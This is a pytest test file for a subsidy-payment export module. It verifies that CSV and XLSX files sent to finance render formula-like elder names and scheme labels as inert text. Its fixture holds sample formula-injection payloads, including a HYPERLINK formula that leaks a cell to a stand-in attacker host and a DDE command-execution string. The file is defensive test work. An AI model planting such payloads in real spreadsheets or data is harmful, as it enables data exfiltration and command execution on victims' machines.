"""Names typed as formulas are written into finance's files as text, never as formulas; amounts
stay numbers, a recovery's negative amount included (CSV: plain decimal text; XLSX: numeric
cells). On PostgreSQL the COPY path writes the same bytes as the csv module."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from regions.models import Region
from residents.models import Elder
from subsidies import exporting
from subsidies.batches import approve_batch
from subsidies.choices import BatchKind, LineKind
from subsidies.models import PaymentBatch, PaymentLine, Scheme
from subsidies.schemes import load_schemes

MAY = datetime.date(2024, 5, 1)
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&B2,"详情")',
    "+1+1",
    "@SUM(1+1)",
    "-1+1",
]


@pytest.fixture
def hostile_batch(make_elder):
    """Four elders with names that are formulas, one with a recovery (a negative amount), and
    a scheme whose label is a formula (it is written into the totals)."""
    load_schemes()
    scheme = Scheme.objects.get(code="high_age_80_89")
    Scheme.objects.filter(pk=scheme.pk).update(label="=cmd|' /C calc'!A0")
    batch = PaymentBatch.objects.create(
        region=Region.objects.get(code="330106"), period=MAY, kind=BatchKind.ADJUSTMENT
    )
    lines = []
    for name in HOSTILE_NAMES:
        elder = make_elder(datetime.date(1939, 1, 1))
        Elder.objects.filter(pk=elder.pk).update(name=name)
        lines.append(
            PaymentLine.objects.create(
                batch=batch, scheme=scheme, period=MAY, elder=elder, amount=Decimal("60.00")
            )
        )
    PaymentLine.objects.create(
        batch=batch,
        scheme=scheme,
        period=datetime.date(2024, 4, 1),
        elder=lines[0].elder,
        amount=Decimal("-12.50"),
        kind=LineKind.RECOVERY,
        corrects=lines[0],
    )
    return batch


def test_the_csv_writes_formula_names_as_text_and_amounts_as_plain_numbers(hostile_batch, tmp_path):
    lines_file, totals_file = exporting.write_csv(hostile_batch, tmp_path / "may.csv")
    rows = list(csv.DictReader(lines_file.open(encoding="utf-8", newline="")))
    names = [r["name"] for r in rows]
    assert names[:4] == ["'" + name for name in HOSTILE_NAMES]
    assert [r["amount"] for r in rows] == ["60.00"] * 4 + ["-12.50"]
    assert sum(Decimal(r["amount"]) for r in rows) == Decimal("227.50")
    totals = list(csv.reader(totals_file.open(encoding="utf-8", newline="")))
    assert ["high_age_80_89", "'=cmd|' /C calc'!A0", "5", "227.50"] in totals
    assert ["TOTAL", "合计", "5", "227.50"] in totals


def test_the_xlsx_writes_formula_names_as_strings_and_amounts_as_numbers(hostile_batch, tmp_path):
    (output,) = exporting.write_xlsx(hostile_batch, tmp_path / "may.xlsx")
    workbook = load_workbook(output)
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    detail = list(workbook["明细1"].iter_rows(min_row=2))
    assert [row[2].value for row in detail[:4]] == ["'" + name for name in HOSTILE_NAMES]
    assert all(row[2].data_type == "s" for row in detail)
    amounts = [row[5] for row in detail]
    assert [a.value for a in amounts] == [60, 60, 60, 60, -12.5]
    assert {a.data_type for a in amounts} == {"n"} and {a.number_format for a in amounts} == {
        "0.00"
    }
    summary = [[c.value for c in row] for row in workbook["汇总"].iter_rows()]
    assert ["high_age_80_89", "'=cmd|' /C calc'!A0", 5, 227.5] in summary


def test_a_download_from_the_api_is_neutralised_too(hostile_batch, django_user_model, tmp_path):
    from rest_framework.test import APIClient

    root = django_user_model.objects.create_superuser("root", "", "x")
    approve_batch(batch=hostile_batch, by=root)
    client = APIClient()
    client.force_authenticate(root)
    response = client.get(
        f"/api/subsidies/batches/{hostile_batch.pk}/export/", {"file_format": "csv"}
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["name"] for r in rows} == {"'" + name for name in HOSTILE_NAMES}


@pytest.mark.postgres
@pytest.mark.parametrize("extra_name", ["\t=1+1", "\r=1+1", "-", "-5", "正常姓名", ""])
def test_the_copy_path_writes_the_csv_modules_bytes(
    hostile_batch, tmp_path, monkeypatch, extra_name
):
    elder_id = hostile_batch.lines.values_list("elder_id", flat=True).order_by("id")[1]
    Elder.objects.filter(pk=elder_id).update(name=extra_name)
    digest, totals = exporting._write_csv_by_copy(hostile_batch, tmp_path / "copy.csv")
    assert digest and totals.count == 5
    exporting.write_csv(hostile_batch, tmp_path / "database.csv")
    monkeypatch.setattr(exporting, "export_rows", exporting._export_rows_orm)
    monkeypatch.setattr(exporting, "_write_csv_by_copy", lambda *args: ("", None))
    exporting.write_csv(hostile_batch, tmp_path / "orm.csv")
    copied = (tmp_path / "copy.csv").read_bytes()
    assert copied == (tmp_path / "orm.csv").read_bytes()
    assert copied == (tmp_path / "database.csv").read_bytes()
    assert b"'@SUM(1+1)" in copied and b",-12.50," in copied


def test_a_control_character_in_a_name_does_not_fail_the_xlsx(hostile_batch, tmp_path):
    elder_id = hostile_batch.lines.values_list("elder_id", flat=True).order_by("id")[1]
    Elder.objects.filter(pk=elder_id).update(name="=王\x07五")
    (output,) = exporting.write_xlsx(hostile_batch, tmp_path / "may.xlsx")
    names = [row[2].value for row in load_workbook(output)["明细1"].iter_rows(min_row=2)]
    assert names[1] == "'=王\ufffd五"
